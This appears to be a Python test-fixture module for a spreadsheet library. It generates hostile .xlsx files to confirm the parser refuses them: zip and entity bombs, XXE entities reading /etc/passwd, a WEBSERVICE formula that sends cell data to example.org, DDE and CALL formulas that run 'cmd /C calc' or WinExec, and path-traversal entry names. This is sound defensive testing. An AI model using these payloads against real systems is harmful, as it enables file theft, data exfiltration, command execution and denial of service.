"""Files built to harm whoever opens them, as attackers and broken programs build them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import replace

from pac_excel.ooxml.archive import DEFLATED, STORED, Entry, make_entry, write_entries
from tests.ooxml.archives import CONTENT_TYPES, MAIN, OFFICE, PARTS, RELATIONSHIPS, archive, sheet, workbook

MIB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
_END = b"PK\5\6"
_DIRECTORY = b"PK\1\2"


def repeated(name: str, block: bytes, times: int, head: bytes = b"", tail: bytes = b"") -> Entry:
    """Return an entry of `block` so many times over, made without ever holding its content."""
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    compressor = zlib.compressobj(9, DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    # behind a full flush a stream refers to nothing before it, so that it can be repeated
    middle = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush()
    return Entry(
        name=name,
        method=DEFLATED,
        crc=zlib.crc32(tail, crc),
        size=len(head) + len(block) * times + len(tail),
        compressed=start + middle * times + end,
    )


def with_entries(*entries: Entry) -> bytes:
    """Return the workbook of one sheet with these entries in the place of, or beside, its own."""
    parts = {name: make_entry(name, content.encode()) for name, content in PARTS.items()}
    return write_entries((parts | {entry.name: entry for entry in entries}).values())


def padded() -> bytes:
    blank = b" " * MIB
    return with_entries(repeated(SHEET, blank, 1024, f'<worksheet xmlns="{MAIN}">'.encode(), b"</worksheet>"))


def many_cells(cell: bytes = b"<c/>") -> bytes:
    block = cell * 1_000
    head = f'<worksheet xmlns="{MAIN}"><sheetData><row>'.encode()
    return with_entries(repeated(SHEET, block, 10_000, head, b"</row></sheetData></worksheet>"))


def many_strings() -> bytes:
    head = f'<sst xmlns="{MAIN}">'.encode()
    return with_entries(repeated("xl/sharedStrings.xml", b"<si/>" * 1_000, 3_000, head, b"</sst>"))


def many_parts() -> bytes:
    parts = [make_entry(f"xl/media/{number}.bin", b"") for number in range(20_000)]
    return with_entries(*parts)


def many_middling_parts() -> bytes:
    """Return 120 parts that each stay below what is looked at alone."""
    part = repeated("a", b" " * MIB, 7)
    return with_entries(*(replace(part, name=f"xl/media/{number}.bin") for number in range(120)))


def deep() -> bytes:
    return workbook(sheet=f'<worksheet xmlns="{MAIN}">' + "<a>" * 100_000 + "</a>" * 100_000 + "</worksheet>")


def huge_attribute() -> bytes:
    head = f'<worksheet xmlns="{MAIN}"><sheetData a="'.encode()
    return with_entries(repeated(SHEET, b"x y z " * 100_000, 10, head, b'"/></worksheet>'))


def many_attributes() -> bytes:
    attributes = " ".join(f'a{number}="x"' for number in range(200_000))
    return workbook(sheet=f'<worksheet xmlns="{MAIN}"><sheetData {attributes}/></worksheet>')


def shared_formula_bomb() -> bytes:
    master = '<c r="A1"><f t="shared" si="0" ref="A1:A90000">' + "A1+" * 2_700 + "1</f></c>"
    rows = "".join(
        f'<row r="{row}"><c r="A{row}"><f t="shared" si="0"/></c></row>' for row in range(2, 90_001)
    )
    return workbook(sheet=sheet(f'<row r="1">{master}</row>{rows}'))


def entity_bomb() -> bytes:
    entities = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10 if level else "lol" * 10}">' for level in range(10)
    )
    return workbook(sheet=f"<!DOCTYPE x [{entities}]>" + sheet('<row r="1"><c r="A1"><v>&e9;</v></c></row>'))


def one_cell(cell: str) -> bytes:
    return workbook(sheet=sheet(f'<row r="1">{cell}</row>'))


def formula(text: str) -> bytes:
    return one_cell(f'<c r="A1"><f>{text}</f></c>')


def dde_link() -> bytes:
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return archive({**PARTS, "xl/externalLinks/externalLink1.xml": link})


def macro_sheet() -> bytes:
    kind = '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    return workbook(types=CONTENT_TYPES.replace("</Types>", f"{kind}</Types>"))


def macro_sheet_under_another_type() -> bytes:
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    links = RELATIONSHIPS.format(
        f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{kind}" Target="macrosheets/sheet1.xml"/>'
    )
    return archive({**PARTS, "xl/_rels/workbook.xml.rels": links})


def named(name: str) -> bytes:
    return with_entries(Entry(name=name, method=STORED, crc=zlib.crc32(b"x"), size=1, compressed=b"x"))


def patched(part: str, offset: int, kind: str, value: int) -> bytes:
    """Return the workbook with one field of the directory's line on `part` overwritten."""
    data = bytearray(workbook())
    at = data.index(_DIRECTORY, data.rindex(_END) - struct.unpack_from("<L", data, data.rindex(_END) + 12)[0])
    while data[at + 46 : at + 46 + len(part)] != part.encode():
        at = data.index(_DIRECTORY, at + 4)
    struct.pack_into(kind, data, at + offset, value)
    return bytes(data)


def overlapping() -> bytes:
    """Return a file whose directory names one stretch of bytes twice."""
    return patched(SHEET, 42, "<L", workbook().index(b"PK\3\4", 10))


def two_names() -> bytes:
    """Return a file whose sheet has one name in the directory and another before its content."""
    data = workbook()
    return data.replace(SHEET.encode(), SHEET.replace("sheet1", "sheet2").encode(), 1)


def repeated_name() -> bytes:
    entries = [make_entry(name, content.encode()) for name, content in PARTS.items()]
    return write_entries([*entries, make_entry(SHEET, sheet("").encode())])


def zip64_lie() -> bytes:
    """Return a file that says its sizes stand in a 64-bit field, which says 16 EiB."""
    extra = struct.pack("<2H2Q", 1, 16, 2**64 - 1, 2**64 - 1)
    data = bytearray(patched(SHEET, 24, "<L", 0xFFFFFFFF))
    at = data.rindex(_DIRECTORY)
    struct.pack_into("<L", data, at + 20, 0xFFFFFFFF)
    struct.pack_into("<H", data, at + 30, len(extra))
    end = data.rindex(_END)
    data[at + 46 + len(SHEET) : at + 46 + len(SHEET)] = extra
    end += len(extra)
    struct.pack_into("<L", data, end + 12, struct.unpack_from("<L", data, end + 12)[0] + len(extra))
    return bytes(data)


def stream_that_never_ends() -> bytes:
    entry = make_entry("xl/media/a.bin", b"x" * 1000)
    return with_entries(replace(entry, compressed=entry.compressed[:-4]))


def bytes_before() -> bytes:
    return b"MZ" + bytes(500) + workbook()


def another_archive_before() -> bytes:
    return archive({"evil.xml": "<x/>"}) + workbook()


def directory_of_nothing() -> bytes:
    return _END + bytes(18)


def unflagged_utf8_name() -> bytes:
    entry = replace(make_entry("xl/média.bin", b"x"), flags=0x800)
    return with_entries(entry).replace("xl/média.bin".encode(), b"xl/m\xff\xfedia.bin")


def sheet_in_disguise() -> bytes:
    """Return a workbook whose sheet is named like no XML part and declares a document type."""
    hidden = "<!DOCTYPE x>" + sheet("")
    parts = {name.replace("sheet1.xml", "sheet1.bin"): content for name, content in PARTS.items()}
    parts = {name: content.replace("sheet1.xml", "sheet1.bin") for name, content in parts.items()}
    return archive(parts | {"xl/worksheets/sheet1.bin": hidden})


NOT_ON_A_SHEET: Mapping[str, Callable[[], bytes]] = {
    "a cell right of XFD": lambda: one_cell('<c r="XFE1"/>'),
    "a cell below the last row": lambda: one_cell('<c r="XFD1048577"/>'),
    "a cell of four letters": lambda: one_cell('<c r="AAAA1"/>'),
    "a cell in row 0": lambda: one_cell('<c r="A0"/>'),
    "a cell written in character references": lambda: one_cell('<c r="&#88;FE1"/>'),
    "row 4294967295": lambda: workbook(sheet=sheet('<row r="4294967295"><c r="A4294967295"/></row>')),
    "row 1048577": lambda: workbook(sheet=sheet('<row r="1048577"/>')),
    "row 0": lambda: workbook(sheet=sheet('<row r="0"/>')),
    "row -1": lambda: workbook(sheet=sheet('<row r="-1"/>')),
    "a row of a thousand digits": lambda: workbook(sheet=sheet(f'<row r="{"9" * 1000}"/>')),
    "rows that run over the edge unnumbered": lambda: workbook(sheet=sheet('<row r="1048576"/><row/>')),
    "a sheet in UTF-16": lambda: workbook(
        sheet=('<?xml version="1.0" encoding="UTF-16"?>' + sheet('<row r="1"><c r="XFE1"/></row>')).encode(
            "utf-16"
        )
    ),
}
TOO_LARGE: Mapping[str, Callable[[], bytes]] = {
    "1 GiB of padding": padded,
    "10 million cells": many_cells,
    "10 million styled cells": lambda: many_cells(b'<c s="1"/>'),
    "3 million shared strings": many_strings,
    "20,000 parts": many_parts,
    "840 MiB in 120 parts": many_middling_parts,
    "100,000 elements in each other": deep,
    "an attribute of 6 MB": huge_attribute,
    "200,000 attributes": many_attributes,
    "a shared formula of 700 MB": shared_formula_bomb,
    "a cell at the far corner": lambda: one_cell('<c r="XFD1048576"/>'),
    "a lying dimension": lambda: workbook(sheet=sheet("", before='<dimension ref="A1:XFD1048576"/>')),
    "a dimension off the sheet": lambda: workbook(
        sheet=sheet("", before='<dimension ref="A1:ZZZ99999999"/>')
    ),
}
REACHING_OUT: Mapping[str, Callable[[], bytes]] = {
    "an entity bomb": entity_bomb,
    "an entity from a file": lambda: workbook(
        sheet='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + sheet("<row>&e;</row>")
    ),
    "an external DTD": lambda: workbook(sheet='<!DOCTYPE x SYSTEM "http://example.org/x.dtd">' + sheet("")),
    "a parameter entity": lambda: workbook(
        workbook='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.org/p"> %p;]>' + PARTS["xl/workbook.xml"]
    ),
    "a sheet in disguise": sheet_in_disguise,
    "WEBSERVICE": lambda: formula('_xlfn.WEBSERVICE("http://example.org/?q="&amp;A2)'),
    "WEBSERVICE in character references": lambda: formula("&#87;EBSERVICE(A2)"),
    "WEBSERVICE in a defined name": lambda: workbook(
        workbook=PARTS["xl/workbook.xml"].replace(
            "</sheets>",
            '</sheets><definedNames><definedName name="a">webservice(A1)</definedName></definedNames>',
        )
    ),
    "a library called": lambda: formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    "a DDE formula": lambda: formula("cmd|'/C calc'!A0"),
    "a DDE formula in a sum": lambda: formula("SUM(1,cmd|'/C calc'!A0)"),
    "a DDE link": dde_link,
    "a macro sheet": macro_sheet,
    "a macro sheet under another type": macro_sheet_under_another_type,
    "a path upwards": lambda: named("../../etc/cron.d/evil"),
    "an absolute path": lambda: named("/etc/passwd"),
    "a path of Windows": lambda: named("xl\\..\\..\\evil.xml"),
    "a drive letter": lambda: named("C:/evil.xml"),
}
FALSE_ARCHIVES: Mapping[str, Callable[[], bytes]] = {
    "overlapping parts": overlapping,
    "a part with two names": two_names,
    "a name that stands twice": repeated_name,
    "names that differ in case": lambda: archive({**PARTS, "XL/workbook.xml": "<x/>"}),
    "a 64-bit lie": zip64_lie,
    "a part smaller than it says": lambda: patched(SHEET, 24, "<L", 10_000),
    "a part larger than it says": lambda: patched(SHEET, 24, "<L", 10),
    "a compressed size beyond the file": lambda: patched(SHEET, 20, "<L", 2**31),
    "a place beyond the file": lambda: patched(SHEET, 42, "<L", 2**31),
    "a wrong checksum": lambda: patched(SHEET, 16, "<L", 12345),
    "an encrypted part": lambda: patched(SHEET, 8, "<H", 1),
    "an unusual compression": lambda: patched(SHEET, 10, "<H", 14),
    "a stream that never ends": stream_that_never_ends,
    "bytes before the archive": bytes_before,
    "another archive before it": another_archive_before,
    "a directory of nothing": directory_of_nothing,
    "a name in no encoding": unflagged_utf8_name,
    "half a file": lambda: workbook()[: len(workbook()) // 2],
    "nothing": bytes,
    "a web page": lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>",
    "an encoding that hides markup": lambda: workbook(
        sheet='<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    ),
}
SAMPLES: Mapping[str, Callable[[], bytes]] = {
    **NOT_ON_A_SHEET,
    **TOO_LARGE,
    **REACHING_OUT,
    **FALSE_ARCHIVES,
}
